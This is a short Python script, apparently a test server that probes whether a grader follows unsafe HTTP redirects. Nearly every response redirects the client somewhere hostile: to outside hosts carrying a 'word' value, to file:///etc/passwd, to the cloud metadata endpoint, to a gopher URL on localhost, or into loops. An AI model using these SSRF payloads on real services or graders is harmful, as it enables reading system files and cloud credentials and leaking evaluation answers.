"""Sends the grader elsewhere: to a program outside with the answers, to files, to the cloud's metadata, in a circle."""

import os

import raw
from target import HOSTS, PORT

HERE = f"http://127.0.0.1:{os.environ['PORT']}/pages"


def to(status, place):
    """Return a page that leads there."""
    head = f"HTTP/1.1 {status} Elsewhere\r\nConnection: close\r\nLocation: {place}\r\nRefresh: 0; url={place}\r\n"
    return lambda word: f"{head.replace('WORD', word)}Content-Length: 0\r\n\r\n".encode()


raw.serve(
    [
        to(302, f"http://{HOSTS[0]}:{PORT}/pages?word=WORD"),
        to(301, f"http://{HOSTS[-1]}:{PORT}/pages?word=WORD"),
        to(303, f"//127.0.0.1:{PORT}/pages?word=WORD"),
        to(307, "file:///etc/passwd"),
        to(308, "http://169.254.169.254/latest/meta-data/"),
        to(302, f"{HERE}/5"),
        to(302, f"{HERE}/40?word=WORD"),
        to(302, f"gopher://127.0.0.1:{PORT}/_GET%20/"),
        to(300, f"http://127.0.0.1:{PORT}/pages?word=WORD"),
    ]
)
